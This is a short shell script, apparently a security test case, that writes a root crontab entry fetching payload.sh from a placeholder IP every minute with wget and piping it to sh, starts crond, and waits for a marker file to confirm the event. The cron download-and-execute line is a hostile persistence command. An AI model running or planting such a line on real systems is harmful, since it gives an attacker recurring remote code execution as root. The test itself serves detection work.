#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/spool/cron/crontabs
echo '* * * * * wget -q -O- http://203.0.113.10/payload.sh | sh' >/var/spool/cron/crontabs/root
crond -c /var/spool/cron/crontabs -L /dev/null
n=0; until test -e /tmp/reached; do n=$((n + 1)); test $n -lt 80; sleep 1; done
took_place
